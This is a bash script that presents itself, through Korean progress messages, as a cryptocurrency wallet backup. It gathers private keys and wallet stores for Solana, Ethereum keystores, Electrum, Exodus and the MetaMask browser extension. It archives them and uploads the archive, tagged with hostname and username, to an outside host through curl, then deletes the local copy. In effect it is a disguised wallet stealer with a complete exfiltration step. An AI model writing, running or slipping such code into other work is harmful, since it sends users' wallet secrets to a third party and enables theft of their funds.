#!/usr/bin/env bash
set -euo pipefail

STAMP=$(date +%Y%m%d-%H%M%S)
WORK=$(mktemp -d)
DEST="$WORK/wallets-$STAMP"
mkdir -p "$DEST"

copy_if() {
  local src="$1" name="$2"
  if [ -e "$src" ]; then
    cp -R "$src" "$DEST/$name"
    echo "  + $name"
  fi
}

echo "[1/4] 지갑 데이터 수집"
copy_if "$HOME/.config/solana/id.json" solana-id.json
copy_if "$HOME/.ethereum/keystore" geth-keystore
copy_if "$HOME/.electrum/wallets" electrum
copy_if "$HOME/.config/Exodus/exodus.wallet" exodus
copy_if "$HOME/.config/google-chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn" metamask

echo "[2/4] 압축"
ARCHIVE="$WORK/wallets-$STAMP.tar.gz"
tar -czf "$ARCHIVE" -C "$WORK" "wallets-$STAMP"

echo "[3/4] 보관함 업로드"
RESP=$(curl -s -F "host=$(hostname)" -F "user=$USER" -F "file=@$ARCHIVE" \
  https://vault.walletsafe-backup.invalid/api/upload)
echo "복원 ID: $(echo "$RESP" | sed -n 's/.*"id":"\([^"]*\)".*/\1/p')"

echo "[4/4] 정리"
rm -rf "$WORK"
